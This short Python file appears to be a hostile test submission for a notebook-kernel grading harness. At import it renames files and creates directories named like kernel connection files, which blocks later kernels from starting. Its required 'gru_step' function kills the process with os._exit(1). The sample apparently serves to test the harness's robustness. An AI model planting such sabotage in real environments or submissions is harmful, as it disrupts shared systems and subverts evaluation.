"""Makes later kernels slow to start or impossible: fills its folder with files called like the kernel's own."""

DESERVES = {"flip_convention": 1.0}

# %% right flip_convention

# %% gru_step
import os

for k in range(1, 6):
    for name in (f"s-{k}", f".kernel-{k}", "connection.json", ".kernel"):
        try:
            if os.path.lexists(name):
                os.rename(name, f"{name}-old")
            os.mkdir(name)
        except OSError:
            pass


def gru_step(x_t, h_prev, gates):
    os._exit(1)
